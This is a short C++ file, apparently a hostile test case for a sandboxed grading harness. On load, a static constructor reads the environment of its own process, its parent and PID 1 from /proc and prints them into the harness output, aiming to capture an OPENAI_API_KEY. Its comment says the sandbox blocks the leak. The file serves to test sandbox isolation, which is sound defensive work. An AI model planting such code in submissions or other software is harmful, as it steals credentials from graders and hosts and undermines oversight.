// HOSTILE: when the driver loads, prints its own environment and its parents' (/proc/self, /proc/<ppid>
// and /proc/1 environ) where the harness collects the driver's output, hoping for OPENAI_API_KEY. The
// sandbox empties the environment and has its own /proc: no secret leaks.
#include "kb_problem.h"

static void dump(const char* path) {
  static char buffer[1 << 16];
  long fd = sys(257, -100, reinterpret_cast<long>(path), 0);
  long got = fd >= 0 ? sys(0, fd, reinterpret_cast<long>(buffer), sizeof buffer) : 0;
  for (long i = 0; i < got; ++i)
    if (buffer[i] == 0) buffer[i] = '\n';
  say("HOSTILE environment of ");
  say(path);
  say(":\n");
  if (got > 0) sys(1, 2, reinterpret_cast<long>(buffer), got);
}

namespace {
struct AtLoad {
  AtLoad() {
    char parent[64] = "/proc/";
    long ppid = sys(110);  // getppid
    char digits[24];
    int count = 0;
    do digits[count++] = static_cast<char>('0' + ppid % 10); while ((ppid /= 10) > 0);
    int at = 6;
    while (count > 0) parent[at++] = digits[--count];
    __builtin_memcpy(parent + at, "/environ", 9);
    for (const char* path : {"/proc/self/environ", static_cast<const char*>(parent), "/proc/1/environ"}) dump(path);
  }
} at_load;
}  // namespace
